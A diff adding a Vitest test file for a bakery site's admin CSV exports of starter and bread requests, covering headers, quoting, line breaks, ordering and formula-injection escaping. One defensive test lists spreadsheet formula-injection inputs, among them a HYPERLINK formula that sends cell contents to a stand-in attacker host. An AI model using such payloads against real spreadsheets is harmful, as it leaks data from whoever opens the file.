@@ -1,0 +1,156 @@
+import { describe, expect, it } from "vitest";
+import { askForBread, keepBreads, keepStarters } from "../../../tests/support/asked";
+import { type Baker, onEachServer } from "../../../tests/support/server";
+
+/** RFC 4180 as its grammar stands, and nothing beyond it: every record ends with CRLF, quotes are doubled. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let rest = text;
+  let record: string[] = [];
+  while (rest !== "") {
+    const [whole, quoted, plain, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
+    if (whole === undefined) throw new Error(`no field begins here: ${rest.slice(0, 50)}`);
+    record.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
+    rest = rest.slice(whole.length);
+    if (end === "\r\n") {
+      records.push(record);
+      record = [];
+    }
+  }
+  return records;
+}
+
+async function download(owner: Baker, path: string) {
+  const response = await owner.request("GET", path);
+  expect(response.status).toBe(200);
+  const bytes = Buffer.from(await response.arrayBuffer());
+  // EF BB BF: spreadsheets know UTF-8 by it.
+  expect(bytes.subarray(0, 3).toString("hex")).toBe("efbbbf");
+  const text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  const [head = [], ...records] = parseCsv(text);
+  const rows = records.map((record) => {
+    expect(record).toHaveLength(head.length);
+    return Object.fromEntries(head.map((name, index) => [name, record[index] ?? ""]));
+  });
+  return { response, rows };
+}
+
+const STARTERS = "/api/admin/starter-requests.csv";
+const BREADS = "/api/admin/bread-requests.csv";
+
+onEachServer((start) => {
+  describe("GET /api/admin/{type}.csv", () => {
+    it("AD-08 is a file named by its list and the day, with all that the list has", async () => {
+      const server = await start({ env: { SITE_TIME_ZONE: "Asia/Tokyo" } });
+      const owner = await server.owner();
+      const at = Date.parse("2026-11-20T15:04:59Z");
+      const [id = ""] = await keepStarters(server, [{ name: 'José "Pepe" Ñandú, 酵母', at }]);
+      const { response, rows } = await download(owner, STARTERS);
+      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+      const day = new Intl.DateTimeFormat("sv-SE", { timeZone: "Asia/Tokyo" }).format(server.clock.now());
+      expect(response.headers.get("content-disposition")).toBe(
+        `attachment; filename="starter-requests-${day}.csv"`,
+      );
+      expect(response.headers.get("cache-control")).toBe("no-store");
+      expect(rows).toEqual([
+        {
+          Date: "2026-11-21 00:04",
+          Name: 'José "Pepe" Ñandú, 酵母',
+          Email: "ben@example.com",
+          Address: "1 Main St",
+          "Address 2": "",
+          City: "San Francisco",
+          State: "CA",
+          ZIP: "94110",
+          Status: "pending",
+          "Earlier requests": "0",
+          Id: id,
+        },
+      ]);
+    });
+
+    it("AD-08 keeps line breaks within a field, and tells a loaf from another", async () => {
+      const server = await start();
+      const owner = await server.owner();
+      await askForBread(server, {
+        instructions: 'Two loaves,\r\none dark\n\nand "one" light',
+        fulfillment: "pickup",
+      });
+      const { rows } = await download(owner, BREADS);
+      expect(rows[0]).toMatchObject({
+        Type: "custom",
+        Instructions: 'Two loaves,\r\none dark\n\nand "one" light',
+        "Delivery or pickup": "pickup",
+        Address: "",
+      });
+    });
+
+    it("AD-08 no field is a formula, whatever a spreadsheet parts cells by", async () => {
+      const server = await start();
+      const owner = await server.owner();
+      const hostile = [
+        "=1+1",
+        "+1-415-555-0100",
+        "-2+3",
+        "@SUM(A1:A9)",
+        '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+        "＝1+1",
+        " =1+1",
+        '"=1+1"',
+        "\t=1+1",
+        "\n=1+1",
+        "Ann;=1+1",
+        'Ann;"=1+1"',
+        "Ann\t@SUM(A1)",
+        "Ann\r\n-1",
+      ];
+      await keepBreads(
+        server,
+        hostile.map((text) => ({ name: text, instructions: text, address: text })),
+      );
+      const { rows } = await download(owner, BREADS);
+      expect(rows).toHaveLength(hostile.length);
+      for (const { Name = "", Instructions = "", Address = "" } of rows)
+        for (const text of [Name, Instructions, Address]) {
+          const cells = text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s"]+/, ""));
+          expect(cells.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
+          // Whoever takes the apostrophes away has what was typed.
+          expect(hostile).toContain(text.replaceAll(/'(?=[=+\-@＝])/g, ""));
+        }
+    });
+
+    it("AD-08 leaves what is no formula as it was typed", async () => {
+      const server = await start();
+      const owner = await server.owner();
+      const plain = ["O'Brien-Smith", "a=b", "Apt #4 @ rear", "5 - 7 pm; then call", "1+1", "'tis"];
+      await keepStarters(
+        server,
+        plain.map((name) => ({ name })),
+      );
+      const { rows } = await download(owner, STARTERS);
+      expect(new Set(rows.map(({ Name }) => Name))).toEqual(new Set(plain));
+      expect(rows).toHaveLength(plain.length);
+    });
+
+    it("AD-08 holds every request once, newest first, however many pages are read for it", async () => {
+      const server = await start();
+      const owner = await server.owner();
+      const at = server.clock.now();
+      const kept = Array.from({ length: 1003 }, (_, index) => ({
+        name: `N${index}`,
+        at: at - Math.floor(index / 7),
+        status: index % 2 === 0 ? "pending" : "shipped",
+      }));
+      await server.database.transaction(async () => {
+        await keepStarters(server, kept);
+      });
+      const { rows } = await download(owner, STARTERS);
+      expect(new Set(rows.map(({ Name }) => Name)).size).toBe(1003);
+      const dates = rows.map(({ Date: date = "" }) => date);
+      expect(dates).toEqual(dates.toSorted().toReversed());
+      expect((await download(owner, `${STARTERS}?status=shipped`)).rows).toHaveLength(501);
+      expect((await download(owner, `${STARTERS}?status=ready`)).rows).toEqual([]);
+      expect((await download(owner, BREADS)).rows).toEqual([]);
+    }, 60_000);
+  });
+});
